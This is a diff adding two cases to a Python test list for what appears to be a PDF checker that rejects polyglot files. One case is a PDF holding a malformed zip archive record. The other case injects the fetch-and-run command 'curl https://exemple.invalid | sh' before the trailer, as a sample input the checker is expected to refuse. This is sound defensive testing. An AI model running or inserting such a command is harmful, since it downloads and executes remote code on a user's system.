@@ -180,6 +180,18 @@ CASES: list[Case] = [
         "POLYGLOT",
     ),
     refused("polyglots", "archive in an object", lambda: raw_pdf(objects({5: stream(_zip())})), "POLYGLOT"),
+    refused(
+        "polyglots",
+        "large archive in an object",
+        lambda: raw_pdf(objects({5: stream(b"PK\x05\x06" + b"\0" * 6 + b"\xff" * 10 + b"\0\0")})),
+        "POLYGLOT",
+    ),
+    refused(
+        "polyglots",
+        "script after the trailer",
+        lambda: raw_pdf(objects()).replace(b"startxref", b"curl https://exemple.invalid | sh\nstartxref"),
+        "POLYGLOT",
+    ),
     refused("polyglots", "tar archive", _tar, "POLYGLOT"),
     refused("polyglots", "image of a disc", _disc, "POLYGLOT"),
     refused("polyglots", "page between objects", _between_objects(_HTML), "POLYGLOT"),
